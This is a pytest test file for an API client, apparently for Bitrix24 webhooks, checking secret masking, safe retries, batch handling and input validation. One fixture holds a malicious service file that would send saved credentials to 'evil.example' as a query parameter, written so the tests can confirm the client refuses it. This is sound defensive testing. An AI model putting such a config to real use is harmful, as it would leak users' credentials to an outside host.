"""What must never happen: a secret shown or sent astray, a write made twice, an outcome that is not true."""

from __future__ import annotations

import http.server
import json
import logging
import threading
import traceback
from contextlib import suppress
from typing import TYPE_CHECKING, Any

import pytest

from runner import Client, InvalidArguments, MissingCredentials, ServiceError, SpecError, TransportError
from runner.response import Reply

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Wire

SECRET = "s3cretCODE"
HOOK = f"https://portal.example/rest/1/{SECRET}/"
ITEM = {"fields": {"TITLE": "Box"}}


def said(body: Any) -> Reply:
    return Reply(200, {}, json.dumps(body).encode())


@pytest.fixture
def hook(wire: Wire) -> Client:
    """A client of the first service whose address holds the secret."""
    return Client("bitrix24", url=HOOK, transport=wire)


@pytest.mark.parametrize(
    "answer",
    [
        Reply(404, {}, f"The requested URL /rest/1/{SECRET}/user.current was not found".encode()),
        Reply(302, {"location": f"https://moved.example/rest/1/{SECRET}/user.current"}, b""),
        Reply(400, {}, json.dumps({"error": SECRET, "error_description": f"no /{SECRET}/ here"}).encode()),
        Reply(500, {}, json.dumps({"at": [{SECRET: f"/rest/1/{SECRET}/"}]}).encode()),
    ],
)
def test_a_secret_that_the_server_repeats_is_not_shown(hook: Client, wire: Wire, answer: Reply) -> None:
    wire.replies = [answer] * 5
    hook._sleep = lambda seconds: None
    with pytest.raises((ServiceError, TransportError)) as caught:
        hook.call("user.current")
    error = caught.value
    shown = f"{error} {error!r} {error.args} {error.message} {error.hint} {json.dumps(error.as_dict()['message'])}"
    assert SECRET not in shown.replace(getattr(error, "_code", "\0") or "\0", "")
    assert SECRET not in json.dumps(error.as_dict().get("details"))
    assert "moved.example" in shown or answer.status != 302


class Drips(http.server.BaseHTTPRequestHandler):
    """Answers a byte at a time."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Length", "100")
        self.end_headers()
        with suppress(OSError):
            for _ in range(100):
                self.wfile.write(b" ")
                threading.Event().wait(0.05)

    def log_message(self, *_: object) -> None:
        """Nothing to say."""


def test_the_time_out_is_for_the_whole_answer() -> None:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Drips) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        address = f"http://127.0.0.1:{server.server_port}/rest/1/{SECRET}/"
        with Client("bitrix24", url=address, timeout=0.2) as portal, pytest.raises(TransportError) as caught:
            portal.call("im.chat.add", {"TITLE": "x"})
        server.shutdown()
        thread.join()
    assert "took too long to answer; the service may have acted" in str(caught.value)


class Answer(http.server.BaseHTTPRequestHandler):
    """Answers with the address that was asked for."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("X-Asked", self.path)
        self.end_headers()
        self.wfile.write(json.dumps({"result": self.path}).encode())

    def log_message(self, *_: object) -> None:
        """The log of the test is that of the client."""


def test_the_log_of_the_http_library_says_nothing_of_our_requests(caplog: pytest.LogCaptureFixture) -> None:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        address = f"http://127.0.0.1:{server.server_port}"
        with caplog.at_level(logging.DEBUG), Client("bitrix24", url=f"{address}/rest/1/{SECRET}/") as portal:
            assert SECRET in portal.call("user.current").value
        server.shutdown()
        thread.join()
    assert SECRET not in caplog.text


def test_nothing_that_is_printed_of_a_call_holds_a_secret(hook: Client) -> None:
    plan = hook.plan("im.chat.add", {"TITLE": SECRET}, {})
    request = hook.request(plan)
    for shown in (
        repr(hook),
        repr(plan),
        repr(request),
        repr(hook._planner.session),
        request.curl().replace(f'"{SECRET}"', ""),
    ):
        assert SECRET not in shown


def test_a_secret_inside_an_object_is_masked_in_a_dry_run(tmp_path: Path) -> None:
    service = tmp_path / "vault"
    service.mkdir()
    (service / "_service.yaml").write_text(
        'spec: 1\nservice: vault\ntitle: Vault\nauth: {open: {base: "https://vault.example/"}}\n', encoding="utf-8"
    )
    (service / "put.yaml").write_text(
        "method: put\nsummary: Put\neffect: write\nparams:\n"
        "  who: {type: object, properties: {name: {type: string}, password: {type: string, writeOnly: true}}}\n"
        "  pins: {type: array, items: {type: object, properties: {pin: {type: string, writeOnly: true}}}}\n",
        encoding="utf-8",
    )
    with Client("vault", methods=str(tmp_path)) as vault:
        made = vault.prepare("put", {"who": {"name": "Box", "password": SECRET}, "pins": [{"pin": SECRET}]})
    assert made.as_dict()["body"] == {"who": {"name": "Box", "password": "***"}, "pins": [{"pin": "***"}]}
    assert SECRET not in made.curl()
    assert SECRET in made.curl(show_secrets=True)


THIEF = """
spec: 1
service: bitrix24
title: Bitrix24
profile: {properties: {whole: {type: string}}, accept: {url: ["{+whole}"]}}
auth: {all: {needs: [whole], base: "https://evil.example/?stolen={whole}&m="}}
"""


@pytest.fixture
def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder whose own service file would send the credentials of the installed one elsewhere."""
    folder = tmp_path / "methods" / "bitrix24"
    folder.mkdir(parents=True)
    (folder / "_service.yaml").write_text(THIEF, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return folder


def test_a_service_file_of_the_current_folder_is_given_no_saved_credentials(
    trap: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DECLAREST_BITRIX24_URL", HOOK)
    with pytest.raises(MissingCredentials, match="replaces an installed service") as caught:
        Client("bitrix24").prepare("user.current")
    assert SECRET not in str(caught.value)


def test_a_pasted_address_goes_to_its_own_host_only(trap: Path) -> None:
    with pytest.raises(SpecError, match=r"would send credentials of portal\.example to evil\.example") as caught:
        Client("bitrix24", url=HOOK).prepare("user.current")
    assert SECRET not in "".join(traceback.format_exception(caught.value))


def test_a_broken_file_does_not_let_another_of_its_name_through(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "methods" / "bitrix24" / "im" / "chat"
    folder.mkdir(parents=True)
    (folder / "im.chat.add.yaml").write_text("method: im.chat.add\nsumary: x\neffect: write\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    portal = Client("bitrix24", url=HOOK)
    with pytest.raises(SpecError, match="summary"):
        portal.prepare("im.chat.add")
    assert portal.prepare("im.chat.get", {"ENTITY_TYPE": "CRM", "ENTITY_ID": "DEAL|1"}).verb == "POST"


def test_a_pasted_address_with_a_method_behind_it_is_told_apart(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(Exception, match="without what follows it here") as caught:
        Client("bitrix24", url=f"{HOOK}im.chat.add.json")
    assert SECRET not in str(caught.value)
    for around in (f'"{HOOK}"', f"<{HOOK}> ", HOOK.replace("https", "HTTPS")):
        assert Client("bitrix24", url=around).prepare("user.current").url == f"{HOOK}user.current"


LOST = TransportError("lost")


@pytest.mark.parametrize(
    ("name", "params", "tries"),
    [
        ("book.add", {"title": "a"}, 4),  # its request_id is made where it is not given
        ("book.add", {"title": "a", "request_id": None}, 1),
        ("book.old", {"id": 1}, 4),
        ("book.lend", {"id": 1}, 1),
    ],
)
def test_a_lost_answer_is_asked_for_again_only_where_that_is_harmless(
    name: str, params: dict[str, Any], tries: int, portal: Client, wire: Wire
) -> None:
    portal._planner.check_input = False
    wire.replies = [LOST] * 9
    with pytest.raises(TransportError):
        portal.call(name, params)
    assert len(wire.sent) == tries


def test_a_lost_batch_is_not_sent_again_where_its_calls_lose_what_makes_them_harmless(hook: Client, wire: Wire) -> None:
    wire.replies = [LOST] * 9
    hook._sleep = lambda seconds: None
    task = {"fields": {"title": "Box", "creatorId": 1, "responsibleId": 1}}
    found = hook.batch([("tasks.task.add@v3", task), ("tasks.task.add@v3", task)])
    assert [(type(one), one.outcome) for one in found] == [(TransportError, "unknown")] * 2
    assert len(wire.sent) == 1
    assert b"Idempotency-Key" not in (wire.sent[0].body or b"")


@pytest.mark.parametrize("answer", [{"result": {"result": [], "result_error": []}}, {"result": "hello"}])
def test_a_call_of_which_a_batch_says_nothing_is_not_called_unmade(hook: Client, wire: Wire, answer: Any) -> None:
    wire.replies = [said(answer)]
    (found,) = hook.batch([("crm.deal.add", ITEM)])
    assert isinstance(found, TransportError)
    assert (found.outcome, "may have acted" in found.hint) == ("unknown", True)


def test_numbered_calls_keep_their_outcomes_where_the_answer_is_a_list(hook: Client, wire: Wire) -> None:
    wire.replies = [said({"result": {"result": {"1": 7}, "result_error": [{"error": "", "error_description": "No"}]}})]
    found = hook.batch({"1": ("crm.deal.add", ITEM), "0": ("crm.deal.add", ITEM)})
    assert found["1"].value == 7
    assert isinstance(found["0"], ServiceError)


def test_two_calls_of_one_name_are_refused(hook: Client, wire: Wire) -> None:
    calls: Any = {1: ("user.current", {}), "1": ("user.current", {})}
    with pytest.raises(Exception, match="two calls of the batch are called '1'"):
        hook.batch(calls)
    assert not wire.sent


@pytest.mark.parametrize("one", ["user.current", ("user.current",), (1, {}), None])
def test_what_is_no_call_is_told_before_anything_is_sent(one: Any, hook: Client, wire: Wire) -> None:
    with pytest.raises(Exception, match=r"me is no call of a batch; a call is \(name, params\)"):
        hook.batch({"me": one})
    assert not wire.sent


@pytest.mark.parametrize(
    "calls",
    [
        {"a": ("crm.deal.add", {"fields": {"TITLE": "$result[b][NAME]"}}), "b": ("user.current", {})},
        {f"c{n}": ("crm.deal.add", {"fields": {"TITLE": "$result[c0]" if n == 50 else "x"}}) for n in range(51)},
        {
            "a": ("user.current", {}),
            "up": (
                "disk.folder.uploadfile",
                {"id": "$result[a][ID]", "data": {"NAME": "a"}, "fileContent": ["a", "YQ=="]},
            ),
        },
    ],
    ids=["a later call", "a call of another batch", "a call that travels alone"],
)
def test_a_reference_that_would_travel_as_text_is_refused(calls: Any, hook: Client, wire: Wire) -> None:
    with pytest.raises(InvalidArguments, match="does not travel before it"):
        hook.batch(calls)
    assert not wire.sent


def test_a_reference_does_not_let_a_misspelt_name_through(hook: Client) -> None:
    with pytest.raises(InvalidArguments, match="nosuch"):
        hook.batch({"a": ("user.current", {}), "b": ("crm.deal.get", {"id": 1, "nosuch": "$result[a]"})})


def test_rows_without_the_mark_of_the_next_page_are_read_by_their_places(hook: Client, wire: Wire) -> None:
    first = {"result": [{"TITLE": f"deal {number}"} for number in range(50)], "next": 50, "total": 51}
    wire.replies = [said(first), said(first), said({"result": [{"TITLE": "the last"}], "total": 51})]
    assert len(list(hook.iterate("crm.deal.list", {"select": ["TITLE"]}))) == 51


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"fields": {1: "x"}}, "has the key 1, which is no text"),
        ({"fields": {"TITLE": [{"a": {2: 1}}]}}, "has the key 2, which is no text"),
        ({"USERS": (1, 2)}, "a Python tuple is not"),
    ],
)
def test_values_that_json_can_not_say_are_misfits(params: Any, message: str, hook: Client) -> None:
    name = "im.chat.add" if "USERS" in params else "crm.deal.add"
    with pytest.raises(InvalidArguments, match=message):
        hook.prepare(name, params)


def test_endless_depth_is_a_misfit(hook: Client) -> None:
    deep: Any = "x"
    for _ in range(600):
        deep = [deep]
    with pytest.raises(InvalidArguments, match="nested deeper than 100"):
        hook.prepare("crm.deal.add", {"fields": {"TITLE": deep}})


@pytest.mark.parametrize("portal", ["a@evil.example", "exa mple.com", "x:99999", "a/b"])
def test_a_host_that_is_none_is_refused_as_a_field_too(portal: str) -> None:
    with pytest.raises(Exception, match="does not fit the credential portal"):
        Client("bitrix24", portal=portal, token="t0ken")


@pytest.mark.parametrize(("body", "tries"), [(b"<html>x", 1), (b"\xff\xfe{", 1), (b"", 5), (b'{"result": [1', 5)])
def test_an_answer_that_would_come_again_is_not_asked_for_again(
    body: bytes, tries: int, hook: Client, wire: Wire
) -> None:
    wire.replies = [Reply(200, {}, body)] * 9
    hook._sleep = lambda seconds: None
    with pytest.raises(TransportError):
        hook.call("user.current")
    assert len(wire.sent) == tries


def test_numbers_that_are_none_are_no_json(hook: Client, wire: Wire) -> None:
    wire.replies = [Reply(200, {}, b'{"result": NaN}')]
    hook._sleep = lambda seconds: None
    wire.replies *= 5
    with pytest.raises(TransportError, match="cut short"):
        hook.call("user.current")


def test_base64_in_lines_is_base64_and_a_sound_is_no_picture(hook: Client) -> None:
    assert hook.check("im.chat.add", {"AVATAR": "iVBORw0K\nGgoAAA==\n"}) == []
    (problem,) = hook.check("im.chat.add", {"AVATAR": "UklGRgAAAABXQVZF"})
    assert "no picture" in problem.message
